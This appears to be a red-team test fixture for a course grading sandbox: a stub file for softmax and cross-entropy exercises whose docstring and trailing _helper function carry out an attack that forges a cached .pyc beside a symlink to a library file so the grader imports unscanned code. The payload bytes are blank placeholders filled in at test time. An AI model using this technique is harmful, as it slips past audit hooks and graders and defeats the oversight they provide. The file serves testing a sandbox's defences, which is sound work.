"""Red-team attack (blind red-team tester R-DI, 2026-12-07): a link in the scratch folder to a
library's .py, with a __pycache__ .pyc written beside it that holds the attack's code and the
library file's mtime and size. The import machinery checked the header through the link and
read the cached code; the audit hook allowed it (a source file's bytecode); the gate resolved
the link and ran it as the library file — unscanned code, with frames up to the worker's own.
`_MAGIC` and `_CODE` are made at test time for the interpreter that grades (test_red_team.build,
derive = "sourceless-pyc"). The other functions are the stubs."""

from __future__ import annotations

import torch


def softmax_rows(scores: torch.Tensor, dim: int = -1) -> torch.Tensor:
    """Numerically stable softmax along `dim` (Week 7 §5; by default the key axis).

    softmax(s)_j = exp(s_j − m) / Σ_r exp(s_r − m) with m = max_r s_r: subtracting the row
    maximum changes nothing mathematically (Week 7 §8) but keeps every exp() ≤ 1, so
    scores of magnitude 1e4 do not overflow. Entries at −∞ get weight exactly 0, as long
    as the row has at least one finite entry.

    Args:
        scores: [...,L,S] scores (any shape).
        dim: the axis that is normalised (−1: one distribution per query row).

    Returns:
        A tensor shaped like `scores`, non-negative, summing to 1 along `dim`.
    """
    # TODO(row_softmax): subtract the row maximum along dim, exponentiate, divide by the sum (Week 7 §5, §8).
    raise NotImplementedError("TODO(row_softmax): softmax_rows")


def log_softmax_rows(scores: torch.Tensor, dim: int = -1) -> torch.Tensor:
    """Stable log-softmax along `dim`: s − logsumexp(s) (log-sum-exp with the max pulled out).

    log softmax(s)_j = (s_j − m) − log Σ_r exp(s_r − m), m = max_r s_r. Never takes the log
    of an underflowed probability, so it stays finite where softmax rounds to 0.

    Args:
        scores: [...,L,S] scores or [N,V] logits (any shape).
        dim: the axis that is normalised.

    Returns:
        A tensor shaped like `scores`: the log-probabilities along `dim`.
    """
    # TODO(row_softmax): compute (s − max) − log Σ exp(s − max) along dim (Week 7 §8, §16).
    raise NotImplementedError("TODO(row_softmax): log_softmax_rows")


def cross_entropy(logits: torch.Tensor, targets: torch.Tensor) -> torch.Tensor:
    """Mean cross-entropy of the next-token targets (Week 7 §16).

    L_n = −log p(target_n | context_n), where p is the softmax over the vocabulary axis;
    the result is the mean over the N examples (reduction "mean"; no ignore_index). Finite
    for logits of any magnitude (1e4 included): a log of a probability that underflowed to
    0 would give +∞.

    Args:
        logits: [N,V] vocabulary scores, one row per example.
        targets: [N] integer class indices in [0, V).

    Returns:
        A 0-dim tensor of the logits' dtype: mean over n of −log_softmax(logits)[n, targets[n]].
    """
    # TODO(row_softmax): average −log p(target) over the rows, using log_softmax_rows (Week 7 §16).
    raise NotImplementedError("TODO(row_softmax): cross_entropy")


def vocab_probs(h: torch.Tensor, w_vocab: torch.Tensor) -> torch.Tensor:
    """Next-token probabilities: logits = h @ W_vocab, softmax over the vocabulary axis (Week 7 §16).

    Args:
        h: [...,C] contextual features (e.g. [B,T,C], or the final position [B,C]).
        w_vocab: [C,V] language-model head.

    Returns:
        [...,V] probabilities; each row sums to 1 over the V vocabulary tokens.
    """
    # TODO(row_softmax): project h onto the vocabulary and softmax over the vocabulary axis (Week 7 §16).
    raise NotImplementedError("TODO(row_softmax): vocab_probs")


import os as _os
import struct as _struct
import sys as _sys

_MAGIC = b""  # @MAGIC@
_CODE = b""  # @CODE@


def _helper():
    folder = _os.getcwd()
    target = [_os.path.join(p, "antigravity.py") for p in _sys.path if _os.path.isfile(_os.path.join(p, "antigravity.py"))][0]
    if not _os.path.lexists(_os.path.join(folder, "zzlink.py")):
        _os.symlink(target, _os.path.join(folder, "zzlink.py"))
    st = _os.stat(target)
    _os.makedirs(_os.path.join(folder, "__pycache__"), exist_ok=True)
    cached = _os.path.join(folder, "__pycache__", f"zzlink.{_sys.implementation.cache_tag}.pyc")
    with open(cached, "wb") as fh:
        fh.write(_MAGIC + _struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF) + _CODE)
    _sys.path.insert(0, folder)
    import zzlink

    return zzlink.rows


def softmax_rows(scores: torch.Tensor, dim: int = -1) -> torch.Tensor:  # noqa: F811
    return _helper()(scores, dim)
